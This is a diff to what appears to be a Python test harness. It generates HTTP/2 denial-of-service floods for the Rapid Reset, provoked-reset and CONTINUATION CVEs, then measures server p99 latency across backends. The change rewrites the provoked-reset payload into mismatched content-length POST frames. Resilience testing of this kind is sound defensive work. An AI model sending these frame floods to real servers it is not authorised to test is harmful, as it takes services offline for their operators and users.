@@ -19,10 +19,10 @@ def rapid_reset(number):  # CVE-2023-44487
     return b"".join(h2.request(s) + h2.frame(h2.RST_STREAM, 0, s, b"\0\0\0\x08") for s in streams)
 
 
-def provoked_reset(number):  # CVE-2025-8671: it is our side that resets, for a window of zero
+def provoked_reset(number):  # CVE-2025-8671: it is our side that resets, for content that has not its length
     streams = range(1 + 2 * BATCH * number, 1 + 2 * BATCH * (number + 1), 2)
-    return b"".join(h2.request(s, b"POST", flags=h2.END_HEADERS) + h2.frame(h2.WINDOW_UPDATE, 0, s, b"\0\0\0\0")
-                    for s in streams)
+    return b"".join(h2.request(s, b"POST", b"/", (b"content-length", b"5"), flags=h2.END_HEADERS) +
+                    h2.frame(h2.DATA, h2.END_STREAM, s, b"x") for s in streams)
 
 
 def continuation(number):  # CVE-2024-27316 and its kin: a head that never ends
@@ -137,7 +137,7 @@ def run(options, backend, name):
         p99_ms(server, 0)
 
 
-OPTIONS = arguments(seconds=1.0, flood="")
+OPTIONS = arguments(seconds=0.5, flood="")
 for backend in [OPTIONS.backend] if OPTIONS.backend else BACKENDS:
     for name in FLOODS:
         if OPTIONS.flood in ("", name):
